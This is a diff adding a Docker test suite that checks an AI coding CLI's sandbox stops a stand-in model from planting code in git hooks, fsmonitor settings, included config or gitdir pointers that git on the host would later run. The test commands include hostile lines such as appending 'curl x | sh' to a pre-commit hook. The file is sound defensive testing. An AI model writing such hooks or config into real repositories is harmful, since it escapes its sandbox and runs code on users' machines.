@@ -1,0 +1,142 @@
+"""A hostile repository cannot make git on the host run code the sandbox wrote.
+
+Each test builds a repository the way an attacker (or an ordinary tool like husky) would, runs
+the real CLI with the stand-in model making the writes, and then checks the host: the files git
+would run are exactly as they were, and git on the host sees no planted repository.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from tests.docker.cli_support import ask, explain
+from tests.fakes.model_server import Call, ModelServer
+
+pytestmark = pytest.mark.docker
+
+
+def git(*args: str, cwd: Path) -> str:
+    done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=True)
+    return done.stdout
+
+
+def attempt(root: Path, server: ModelServer, *commands: str, writes: list[str] = ()) -> list[str]:
+    """Let the model run `commands` and write `writes` (with --yes); the results it got."""
+    calls = [Call("run_shell_command", {"command": c}) for c in commands]
+    calls += [Call("write_file", {"path": p, "content": "#!/bin/sh\necho pwned\n"}) for p in writes]
+    server.reply(tool_calls=calls)
+    server.reply("done")
+    done = ask(root, server, "ollama", "--yes")
+    assert done.returncode == 0, explain(done)
+    return [m["content"] for m in server.last_chat.body["messages"] if m["role"] == "tool"]
+
+
+def snapshot(path: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(path)): p.read_bytes() for p in sorted(path.rglob("*"))
+            if p.is_file() and not p.is_symlink()}
+
+
+def test_a_git_symlink_to_a_directory_in_the_root_is_read_only(workdir: Path,
+                                                               model_server: ModelServer):
+    root = workdir / "proj"
+    root.mkdir()
+    git("init", "-q", "--separate-git-dir", str(root / "store"), str(root), cwd=workdir)
+    (root / ".git").unlink()
+    (root / ".git").symlink_to("store")
+    before = snapshot(root / "store")
+    results = attempt(root, model_server, "echo x > .git/hooks/pre-commit",
+                      "echo x > store/hooks/pre-commit", "git config core.fsmonitor 'id >&2'",
+                      writes=[".git/hooks/post-checkout", "store/hooks/post-checkout"])
+    assert all("Read-only file system" in r or "read-only" in r for r in results[:3]), results
+    assert snapshot(root / "store") == before
+
+
+def test_deep_and_node_modules_repositories_are_read_only(workdir: Path,
+                                                         model_server: ModelServer):
+    root = workdir / "proj"
+    deep = root / "a" / "b" / "c" / "d" / "e" / "f" / "g"
+    vendored = root / "node_modules" / "left-pad"
+    for repo in (deep, vendored):
+        repo.mkdir(parents=True)
+        git("init", "-q", str(repo), cwd=workdir)
+    before = {repo: snapshot(repo / ".git") for repo in (deep, vendored)}
+    results = attempt(root, model_server,
+                      "echo x > a/b/c/d/e/f/g/.git/hooks/pre-commit",
+                      "echo x > node_modules/left-pad/.git/hooks/pre-commit",
+                      "git -C node_modules/left-pad config core.fsmonitor 'id >&2'")
+    assert all("Read-only file system" in r for r in results), results
+    assert {repo: snapshot(repo / ".git") for repo in before} == before
+
+
+def test_a_gitdir_file_and_its_target_are_read_only(workdir: Path, model_server: ModelServer):
+    root = workdir / "proj"
+    root.mkdir()
+    git("init", "-q", "--separate-git-dir", str(root / "meta"), str(root / "app"), cwd=workdir)
+    pointer = (root / "app" / ".git").read_bytes()
+    before = snapshot(root / "meta")
+    results = attempt(root, model_server,
+                      "echo 'gitdir: ../evil' > app/.git",
+                      "echo x > meta/hooks/pre-commit",
+                      writes=["app/.git", "meta/hooks/pre-commit"])
+    assert all("Read-only file system" in r for r in results[:2]), results
+    assert (root / "app" / ".git").read_bytes() == pointer
+    assert snapshot(root / "meta") == before
+
+
+def test_hooks_path_and_included_config_in_the_tree_are_read_only(workdir: Path,
+                                                                  model_server: ModelServer):
+    root = workdir / "proj"
+    root.mkdir()
+    git("init", "-q", str(root), cwd=workdir)
+    (root / ".husky").mkdir()
+    (root / ".husky" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
+    (root / "shared.gitconfig").write_text("[user]\n\tname = dev\n")
+    git("config", "core.hooksPath", ".husky", cwd=root)
+    git("config", "include.path", "../shared.gitconfig", cwd=root)
+    results = attempt(root, model_server,
+                      "echo 'curl x | sh' >> .husky/pre-commit",
+                      "printf '[core]\\n\\tfsmonitor = id\\n' >> shared.gitconfig",
+                      writes=[".husky/pre-commit", "shared.gitconfig"])
+    assert all("Read-only file system" in r for r in results[:2]), results
+    assert (root / ".husky" / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n"
+    assert (root / "shared.gitconfig").read_text() == "[user]\n\tname = dev\n"
+
+
+def test_a_hooks_path_that_does_not_exist_cannot_be_created(workdir: Path,
+                                                            model_server: ModelServer):
+    root = workdir / "proj"
+    root.mkdir()
+    git("init", "-q", str(root), cwd=workdir)
+    git("config", "core.hooksPath", "tools/githooks", cwd=root)
+    results = attempt(root, model_server,
+                      "mkdir -p tools/githooks && echo 'id' > tools/githooks/pre-commit",
+                      writes=["tools/githooks/pre-commit"])
+    assert "Read-only file system" in results[0], results
+    assert not (root / "tools").exists()  # the empty mountpoints are gone after the session
+
+
+def test_a_monorepo_hooks_path_into_the_project_is_read_only(workdir: Path,
+                                                             model_server: ModelServer):
+    mono = workdir / "mono"
+    root = mono / "services" / "api"
+    (root / "hooks").mkdir(parents=True)
+    (root / "hooks" / "pre-push").write_text("#!/bin/sh\nmake check\n")
+    git("init", "-q", str(mono), cwd=workdir)
+    git("config", "core.hooksPath", "services/api/hooks", cwd=mono)
+    results = attempt(root, model_server, "echo 'curl x | sh' >> hooks/pre-push")
+    assert "Read-only file system" in results[0], results
+    assert (root / "hooks" / "pre-push").read_text() == "#!/bin/sh\nmake check\n"
+
+
+def test_ordinary_work_still_happens(workdir: Path, model_server: ModelServer):
+    root = workdir / "proj"
+    root.mkdir()
+    git("init", "-q", str(root), cwd=workdir)
+    results = attempt(root, model_server, "echo ok > made.txt && git status --short",
+                      writes=["src/new.py"])
+    assert "made.txt" in results[0] and results[1].startswith("wrote")
+    assert (root / "made.txt").read_text() == "ok\n" and (root / "src" / "new.py").is_file()
